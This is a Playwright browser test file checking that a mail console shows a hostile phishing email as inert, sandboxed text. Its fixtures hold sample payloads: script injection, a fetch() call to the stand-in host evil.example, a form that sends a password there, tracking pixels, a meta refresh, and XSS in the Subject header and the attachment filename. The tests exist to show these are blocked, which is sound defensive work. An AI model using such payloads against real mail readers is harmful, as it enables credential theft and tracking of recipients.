"""A hostile mail in Chromium: its words are there, and nothing of it runs, loads, leads away or complains."""

from collections.abc import Iterator
from typing import Any

import pytest
from django.core.cache import cache
from playwright.sync_api import BrowserContext, Page, Request, expect

from console.mirror.models import Organization
from console.sandbox import fixtures, transit_messages
from console.sandbox.fixtures import TestSandbox
from tests.areas import world
from tests.browser.axe import violations
from tests.browser.conftest import Watch

pytestmark = pytest.mark.django_db(transaction=True)
EVIL = "https://evil.example"
HTML = f"""
<html><head><meta http-equiv="refresh" content="0;url={EVIL}/refresh"><base href="{EVIL}/">
<link rel="stylesheet" href="{EVIL}/style.css"><style>@import url("{EVIL}/import.css");</style></head>
<body onload="parent.document.title = 'stolen'" background="{EVIL}/body.png">
<script>parent.document.title = "stolen"; fetch("{EVIL}/fetch")</script>
<p style="background: url({EVIL}/p.png)">Please confirm <b>your password</b></p>
<img src="{EVIL}/pixel.gif"><img src="/account/" onerror="parent.document.title = 'stolen'">
<form action="{EVIL}/form"><input name="password" autofocus><button>Confirm</button></form>
<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<video src="{EVIL}/video" autoplay></video><svg><image href="{EVIL}/svg.png"/></svg>
<a href="{EVIL}/click" ping="{EVIL}/ping">Your bank</a>
</body></html>
"""
MAIL = (
    "From: Your bank <ada@example.com>\r\nSubject: <script>parent.document.title = 'stolen'</script>\r\n"
    'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n'
    f"{HTML}\r\n--b\r\nContent-Type: application/pdf\r\n"
    'Content-Disposition: attachment; filename="<img src=x>.pdf"\r\n\r\nx\r\n--b--\r\n'
)


@pytest.fixture
def town() -> Iterator[TestSandbox]:
    with world.sandbox() as made, world.unhurried():
        yield fixtures.build_test_sandbox(made)


@pytest.fixture
def organization(town: TestSandbox) -> Organization:
    cache.clear()
    return Organization.objects.create(
        organization_id=town.organization_id, slug="example", region="us-east-1"
    )


@pytest.fixture
def shown(
    town: TestSandbox, organization: Organization, page: Page, context: BrowserContext, live_server: Any
) -> list[str]:
    """The page of the mail, and every address that anything asked for since."""
    asked: list[str] = []
    context.on("request", lambda request: asked.append(_address(request)))
    message = transit_messages.put_in_transit(town.store, town.organization, MAIL.encode()).message_id
    client = world.browser(world.operator("Owner", organization, name="olga"))
    (cookie,) = client.cookies.values()
    context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": live_server.url}])
    page.goto(f"{live_server.url}/o/example/messages/")
    page.get_by_label("Message id").fill(message)
    page.get_by_label("Reason").fill("looks like phishing")
    page.get_by_role("button", name="Open the message").click()
    page.wait_for_load_state("networkidle")
    return asked


def _address(request: Request) -> str:
    return request.url


class TestAHostileMail:
    def test_shows_its_words_and_asks_nobody_for_anything(
        self, shown: list[str], page: Page, live_server: Any
    ) -> None:
        frame = page.frame_locator("iframe")
        expect(frame.get_by_text("Please confirm your password")).to_be_visible()
        expect(page.get_by_role("heading", level=1)).to_contain_text("<script>")
        expect(page.get_by_text("<img src=x>.pdf")).to_be_visible()
        expect(page.get_by_text(f"{EVIL}/click")).to_be_visible()
        assert [each for each in shown if not each.startswith(live_server.url)] == []
        assert "stolen" not in page.title()

    def test_has_nothing_in_it_that_can_be_clicked_or_filled(self, shown: list[str], page: Page) -> None:
        frame = page.frame_locator("iframe")
        for kind in ("img", "form", "input", "button", "iframe", "[href]", "[src]", "[style]", "script"):
            expect(frame.locator(kind)).to_have_count(0)
        before = page.url
        frame.get_by_text("Your bank").click()
        page.wait_for_timeout(200)
        assert page.url == before
        assert not [each for each in shown if EVIL in each]

    def test_is_shut_in_even_if_nothing_had_been_taken_out(
        self, shown: list[str], page: Page, watch: Watch
    ) -> None:
        """The frame's sandbox and the policy that it inherits would do alone."""
        watch.forgive("about:srcdoc")
        watch.forgive(EVIL)
        page.evaluate(
            "html => { document.querySelector('iframe').srcdoc = html }",
            f"<p>again</p><script>parent.document.title = 'stolen'</script><img src='{EVIL}/again.gif'>",
        )
        expect(page.frame_locator("iframe").get_by_text("again")).to_be_visible()
        assert "stolen" not in page.title()
        assert page.locator("iframe").get_attribute("sandbox") == ""
        said = " ".join(watch.complaints)
        assert "Blocked script execution" in said
        assert "img-src" in said

    @pytest.mark.parametrize("theme", ["light", "dark"])
    def test_can_be_read_by_everybody(self, shown: list[str], page: Page, theme: Any) -> None:
        page.emulate_media(color_scheme=theme)
        expect(page.locator("html")).to_have_attribute("data-bs-theme", theme)
        assert violations(page) == []
        page.set_viewport_size({"width": 390, "height": 844})
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
